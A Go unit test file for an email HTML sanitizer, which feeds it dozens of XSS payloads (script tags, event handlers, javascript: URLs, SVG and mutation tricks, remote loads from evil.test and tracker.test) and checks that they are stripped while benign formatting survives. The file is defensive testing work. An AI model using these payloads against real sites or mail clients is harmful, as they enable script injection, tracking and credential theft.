package mail

import (
	"strings"
	"testing"
)

// TestSanitizeHostile feeds hostile HTML to the policy: nothing that can
// run script, load remote content, navigate or restyle the page survives.
func TestSanitizeHostile(t *testing.T) {
	cases := []struct {
		name, in string
		absent   []string // lower-case substrings that must not survive
	}{
		{"script", `<p>hi</p><script>alert(1)</script>`, []string{"<script", "alert"}},
		{"script case", `<ScRiPt src=//evil.test/x.js></sCrIpT>`, []string{"script", "evil"}},
		{"onerror", `<img src="cid:a" onerror="alert(1)">`, []string{"onerror", "alert"}},
		{"onload body", `<body onload="alert(1)"><p>x</p></body>`, []string{"onload", "alert"}},
		{"onclick", `<div onclick="steal()">x</div>`, []string{"onclick", "steal"}},
		{"javascript href", `<a href="javascript:alert(1)">x</a>`, []string{"javascript", "alert"}},
		{"javascript entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`, []string{"ascript:", "alert"}},
		{"javascript upper", `<a href="JAVASCRIPT:alert(1)">x</a>`, []string{"javascript", "alert"}},
		{"vbscript", `<a href="vbscript:msgbox(1)">x</a>`, []string{"vbscript"}},
		{"data html link", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, []string{"data:text/html"}},
		{"css expression", `<div style="width: expression(alert(1))">x</div>`, []string{"expression", "alert"}},
		{"css url", `<div style="background: url(http://evil.test/x.png)">x</div>`, []string{"url(", "evil"}},
		{"css behavior", `<div style="behavior: url(x.htc); -moz-binding: url(x.xml)">x</div>`, []string{"behavior", "binding"}},
		{"style element", `<style>body{display:none}</style><p>x</p>`, []string{"<style", "display"}},
		{"svg onload", `<svg onload="alert(1)"><circle r="1"/></svg>`, []string{"svg", "onload", "alert"}},
		{"svg script", `<svg><script>alert(1)</script></svg>`, []string{"svg", "script", "alert"}},
		{"svg use href", `<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`, []string{"svg", "use"}},
		{"svg animate", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`, []string{"animate", "javascript"}},
		{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, []string{"onerror", "alert", "<math"}},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil.test"><p>x</p>`, []string{"<meta", "refresh", "evil"}},
		{"base href", `<base href="http://evil.test/"><a href="x">y</a>`, []string{"<base", "evil"}},
		{"iframe", `<iframe src="http://evil.test"></iframe>`, []string{"iframe", "evil"}},
		{"object embed", `<object data="x.swf"></object><embed src="x.swf">`, []string{"object", "embed", "swf"}},
		{"form", `<form action="http://evil.test"><input name=p type=password><button>Go</button></form>`, []string{"<form", "<input", "<button", "evil"}},
		{"link stylesheet", `<link rel="stylesheet" href="http://evil.test/x.css">`, []string{"<link", "evil"}},
		{"remote image", `<img src="http://tracker.test/pixel.gif" width=1 height=1>`, []string{"tracker"}},
		{"protocol-relative image", `<img src="//tracker.test/p.gif">`, []string{"tracker"}},
		{"srcset", `<img src="cid:a" srcset="http://tracker.test/p.gif 1x">`, []string{"srcset", "tracker"}},
		{"background attr", `<table background="http://tracker.test/bg.gif"><tr><td>x</td></tr></table>`, []string{"tracker", "background="}},
		{"comment trick", `<!--<img src="--><img src=x onerror=alert(1)//">`, []string{"onerror", "alert"}},
		{"noscript trick", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, []string{"onerror"}},
		{"formaction", `<button formaction="javascript:alert(1)">x</button>`, []string{"formaction", "javascript"}},
		{"xlink", `<a xlink:href="javascript:alert(1)">x</a>`, []string{"javascript"}},
		{"srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, []string{"srcdoc", "script"}},
	}
	for _, c := range cases {
		out, _ := SanitizeHTML(c.in, false)
		low := strings.ToLower(out)
		for _, bad := range c.absent {
			if strings.Contains(low, bad) {
				t.Errorf("%s: %q survived in %q", c.name, bad, out)
			}
		}
	}
}

// TestSanitizeKeeps checks that ordinary formatting survives, links get
// rel and target, and only local images are kept.
func TestSanitizeKeeps(t *testing.T) {
	in := `<html><head><title>t</title></head><body>
<p style="color: red; position: fixed">Hello <b>bold</b> <i>it</i> <u>u</u></p>
<table border="1"><tr><td colspan="2">cell</td></tr></table>
<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quoted</blockquote>
<a href="https://example.com/x">link</a> <a href="mailto:a@example.com">mail</a>
<img src="cid:logo@x" alt="logo"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="d">
<img src="https://tracker.test/p.gif"></body></html>`
	out, blocked := SanitizeHTML(in, false)
	for _, want := range []string{"<b>bold</b>", "<i>it</i>", "<table", "colspan=\"2\"", "<ul>", "<ol>",
		"<blockquote>", `href="https://example.com/x"`, `target="_blank"`, "nofollow", "noopener",
		`src="cid:logo@x"`, `src="data:image/png;base64,iVBORw0KGgo="`, "color: red", "mailto:a@example.com"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in %s", want, out)
		}
	}
	if strings.Contains(out, "position") || strings.Contains(out, "tracker") || strings.Contains(out, "<title") {
		t.Errorf("unexpected content kept: %s", out)
	}
	if !blocked {
		t.Error("remote image not reported as blocked")
	}
	out, blocked = SanitizeHTML(in, true)
	if !strings.Contains(out, "tracker.test") || blocked {
		t.Errorf("AllowRemoteImages: remote image dropped or reported: %v %s", blocked, out)
	}
}
